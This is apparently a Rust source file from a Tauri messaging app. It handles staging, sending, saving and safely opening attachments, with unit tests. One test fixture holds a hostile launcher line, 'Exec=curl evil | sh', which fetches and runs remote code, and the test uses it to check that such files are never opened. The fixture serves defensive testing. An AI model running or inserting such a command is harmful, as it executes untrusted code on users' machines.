//! Attachments: staging what the page hands over, sending, downloading, saving, opening; and
//! opening web links in the system browser.

use std::path::PathBuf;

use isthmus_core::{ConversationId, ErrorCode, Message, MessageId, SavedAttachment};
use tauri::http::HeaderMap;
use tauri::ipc::{InvokeBody, Request};
use tauri::{AppHandle, Manager, State};
use tauri_plugin_opener::OpenerExt;

use crate::error::{CommandError, CommandResult};
use crate::parse;
use crate::staging;
use crate::state::AppState;

/// The header that names a file whose bytes are the raw body of `stage_file`, percent-encoded
/// (headers are ASCII; names are not). tauri.ts sends the same name.
pub const FILE_NAME_HEADER: &str = "isthmus-file-name";

/// Writes the bytes the page holds (a pasted or picked file) into the staging folder and
/// returns the staged file's id for `send_file`. The bytes are the request's raw body, not a
/// JSON array of numbers (which took about four bytes of JSON per byte, 400 MB at the 100 MiB
/// limit); the name comes in [`FILE_NAME_HEADER`].
#[tauri::command]
pub async fn stage_file(state: State<'_, AppState>, request: Request<'_>) -> CommandResult<String> {
    let InvokeBody::Raw(bytes) = request.body() else {
        return Err(CommandError::new(ErrorCode::Protocol, "stage_file takes the file's bytes as a raw body"));
    };
    let file_name = file_name_of(request.headers())?;
    let staging = state.staging().to_path_buf();
    // Writing up to 100 MiB blocks; borrowing the body keeps it from being copied first.
    tokio::task::block_in_place(|| staging::stage_bytes(&staging, &file_name, bytes)).map(|staged| staged.id)
}

/// The file name in [`FILE_NAME_HEADER`], decoded.
fn file_name_of(headers: &HeaderMap) -> CommandResult<String> {
    let missing = || CommandError::new(ErrorCode::Protocol, format!("stage_file needs the {FILE_NAME_HEADER} header"));
    let raw = headers.get(FILE_NAME_HEADER).ok_or_else(missing)?.to_str().map_err(|_| missing())?;
    let name = percent_encoding::percent_decode_str(raw).decode_utf8().map_err(|_| missing())?;
    Ok(name.into_owned())
}

/// Only files in the staging folder are sent: the page can hand over bytes, never name a file
/// elsewhere on disk.
pub(super) fn staged(state: &AppState, id: &str) -> CommandResult<PathBuf> {
    staging::resolve(state.staging(), id)
}

#[tauri::command]
pub async fn send_file(
    state: State<'_, AppState>,
    account: String,
    peer: String,
    path: String,
    caption: String,
    as_file: bool,
) -> CommandResult<Message> {
    let engine = state.engine().await?;
    let path = staged(&state, &path)?;
    let (account, peer) = (parse::address(&account)?, parse::address(&peer)?);
    let sent = engine.send_file(&account, &peer, &path, &caption, as_file).await;
    // The engine keeps its own encrypted copy; the plaintext goes now, sent or refused (a
    // refused file is staged again when the person tries again).
    state.discard_staged(&path);
    Ok(sent?)
}

#[tauri::command]
pub async fn download_attachment(
    state: State<'_, AppState>,
    conversation_id: ConversationId,
    message_id: MessageId,
    index: u32,
) -> CommandResult<Message> {
    Ok(state.engine().await?.download_attachment(conversation_id, message_id, index).await?)
}

/// The user's Downloads folder, else their home folder.
fn downloads(app: &AppHandle) -> CommandResult<PathBuf> {
    let paths = app.path();
    let folder = paths.download_dir().or_else(|_| paths.home_dir())?;
    std::fs::create_dir_all(&folder).map_err(CommandError::io)?;
    Ok(folder)
}

#[tauri::command]
pub async fn save_attachment(
    app: AppHandle,
    state: State<'_, AppState>,
    conversation_id: ConversationId,
    message_id: MessageId,
    index: u32,
) -> CommandResult<SavedAttachment> {
    let engine = state.engine().await?;
    Ok(engine.save_attachment(conversation_id, message_id, index, &downloads(&app)?).await?)
}

/// What "Open" does with a saved attachment.
#[derive(Debug, PartialEq, Eq)]
enum Opening {
    /// Hand it to the system's app for its type.
    Open,
    /// Show it in its folder: the system's opener would run it, or its name lies about it.
    Reveal,
}

/// Only passive files whose content matches their name are opened (the engine's
/// `SavedAttachment::opens`); a `.jar`, a `.desktop` launcher, a script or a program called
/// `.jpg` never reaches the opener, which would run it with one click.
fn opening(saved: &SavedAttachment) -> Opening {
    if saved.opens && !saved.extension_mismatch {
        Opening::Open
    } else {
        Opening::Reveal
    }
}

/// Saves, then opens with the system's app for its type, or shows it in its folder (see
/// [`opening`]). The page tells the person which happened from `opens`.
#[tauri::command]
pub async fn open_attachment(
    app: AppHandle,
    state: State<'_, AppState>,
    conversation_id: ConversationId,
    message_id: MessageId,
    index: u32,
) -> CommandResult<SavedAttachment> {
    let engine = state.engine().await?;
    let saved = engine.save_attachment(conversation_id, message_id, index, &downloads(&app)?).await?;
    let opened = match opening(&saved) {
        Opening::Reveal => app.opener().reveal_item_in_dir(&saved.path),
        Opening::Open => app.opener().open_path(saved.path.to_string_lossy(), None::<&str>),
    };
    opened.map_err(|error| CommandError::new(ErrorCode::Internal, format!("the system could not open it: {error}")))?;
    Ok(saved)
}

#[tauri::command]
pub async fn open_link(app: AppHandle, url: String) -> CommandResult<()> {
    let url = parse::web_link(&url)?;
    app.opener()
        .open_url(url.as_str(), None::<&str>)
        .map_err(|error| CommandError::new(ErrorCode::Internal, format!("the browser could not open it: {error}")))
}

#[cfg(test)]
mod tests {
    use isthmus_core::media::names;

    use super::*;

    fn saved(name: &str, head: &[u8]) -> SavedAttachment {
        SavedAttachment {
            path: PathBuf::from(name),
            extension_mismatch: names::extension_mismatch(name, head),
            detected_type: names::detected_extension(head).map(str::to_owned),
            opens: names::opens_safely(name, head),
        }
    }

    #[test]
    fn only_passive_files_reach_the_opener() {
        assert_eq!(opening(&saved("holiday.jpg", b"\xff\xd8\xff\xe0")), Opening::Open);
        assert_eq!(opening(&saved("tool.jar", b"PK\x03\x04")), Opening::Reveal, "a Java archive would run");
        assert_eq!(
            opening(&saved("game.desktop", b"[Desktop Entry]\nExec=curl evil | sh")),
            Opening::Reveal,
            "a launcher would run its Exec line"
        );
        assert_eq!(opening(&saved("cute.jpg", b"MZ\x90\x00")), Opening::Reveal, "a program named .jpg");
    }

    /// A call as the page's `invoke` makes it, with `body` and `headers`.
    fn invoke(command: &str, body: InvokeBody, headers: HeaderMap) -> tauri::webview::InvokeRequest {
        tauri::webview::InvokeRequest {
            cmd: command.into(),
            callback: tauri::ipc::CallbackFn(0),
            error: tauri::ipc::CallbackFn(1),
            url: "tauri://localhost".parse().expect("a URL"),
            body,
            headers,
            invoke_key: tauri::test::INVOKE_KEY.into(),
        }
    }

    #[test]
    fn a_file_crosses_the_bridge_as_a_raw_body_and_waits_staged_under_an_id() {
        let root = tempfile::tempdir().expect("temp dir");
        let app = tauri::test::mock_builder()
            .invoke_handler(tauri::generate_handler![stage_file])
            .build(tauri::test::mock_context(tauri::test::noop_assets()))
            .expect("a mock app");
        app.manage(AppState::new(root.path().join("profile"), None).expect("a staging folder"));
        let page = tauri::WebviewWindowBuilder::new(&app, "main", Default::default()).build().expect("a window");
        let mut headers = HeaderMap::new();
        headers.insert(FILE_NAME_HEADER, "caf%C3%A9%20menu.pdf".parse().expect("ASCII"));
        let bytes: Vec<u8> = (0..=255).collect();

        let staged =
            tauri::test::get_ipc_response(&page, invoke("stage_file", InvokeBody::Raw(bytes.clone()), headers.clone()))
                .expect("staged")
                .deserialize::<String>()
                .expect("an id");
        assert!(staged.ends_with("/café menu.pdf"), "the name from the header, decoded: {staged}");
        let state = app.state::<AppState>();
        let path = staging::resolve(state.staging(), &staged).expect("the id is what send_file takes");
        assert_eq!(std::fs::read(path).expect("read"), bytes, "every byte arrives as sent");

        let old_form = serde_json::json!({ "fileName": "a.txt", "bytes": [1, 2, 3] });
        let refused = tauri::test::get_ipc_response(&page, invoke("stage_file", InvokeBody::Json(old_form), headers))
            .expect_err("a JSON array of numbers is no longer taken");
        assert_eq!(refused["code"], "protocol", "{refused}");
        let unnamed =
            tauri::test::get_ipc_response(&page, invoke("stage_file", InvokeBody::Raw(bytes), HeaderMap::new()))
                .expect_err("a file needs a name");
        assert_eq!(unnamed["code"], "protocol", "{unnamed}");
    }

    #[test]
    fn the_file_name_header_is_percent_decoded_and_required() {
        let mut headers = HeaderMap::new();
        headers.insert(FILE_NAME_HEADER, "Gr%C3%BC%C3%9Fe%20aus%20K%C3%B6ln.jpg".parse().expect("ASCII"));
        assert_eq!(file_name_of(&headers).expect("decodes"), "Grüße aus Köln.jpg", "encodeURIComponent's form");
        let missing = file_name_of(&HeaderMap::new()).expect_err("no name");
        assert_eq!(missing.code(), ErrorCode::Protocol);
    }
}
